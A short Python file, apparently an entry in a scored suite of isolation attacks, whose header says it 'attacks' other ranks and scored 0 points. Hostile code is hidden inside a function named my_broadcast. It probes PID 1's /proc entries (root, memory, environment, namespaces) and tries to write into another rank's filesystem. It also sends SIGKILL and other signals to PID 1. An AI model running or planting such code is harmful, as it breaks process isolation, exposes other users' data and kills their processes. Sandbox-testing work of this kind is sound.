# attack: looks through the first of its rank's processes at the files of others, signals it, and takes its namespaces
# points: 0
# reason: the first process gave nothing
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def my_broadcast(tensor, src):
    for place in ("root", "cwd", "exe", "fd", "mem", "maps", "environ", "task/1/root", "map_files", "ns/mnt", "ns/user"):
        path = "/proc/1/" + place
        for way in (os.listdir, os.readlink, lambda path: os.open(path, os.O_RDONLY)):
            try:
                way(path)
            except OSError:
                continue
            raise SystemError("SUCCEEDED: opened %s" % path)
    try:
        open("/proc/1/root/tmp/mark", "w").close()
        raise SystemError("SUCCEEDED: wrote a file where other ranks are")
    except OSError:
        pass
    for table in ("unix", "tcp", "sockstat"):  # of the network that it is in
        if len([line for line in open("/proc/1/net/" + table) if "used" in line and not line.startswith("sockets: used 0")
                or "@" in line or "/" in line]) > 0:
            raise SystemError("SUCCEEDED: sees sockets in %s" % table)
    own = open("/proc/1/cmdline", "rb").read()
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGCHLD, signal.SIGHUP):
        try:
            os.kill(1, number)
        except OSError:
            pass
    state = [line for line in open("/proc/1/status") if line.startswith("State:")][0]
    if not state.split()[1] in "SR" or open("/proc/1/cmdline", "rb").read() != own:
        raise SystemError("SUCCEEDED: the first process is %s" % state)
    if os.getppid() != 0:
        raise SystemError("SUCCEEDED: sees who started it")
    raise PermissionError("the first process gave nothing")
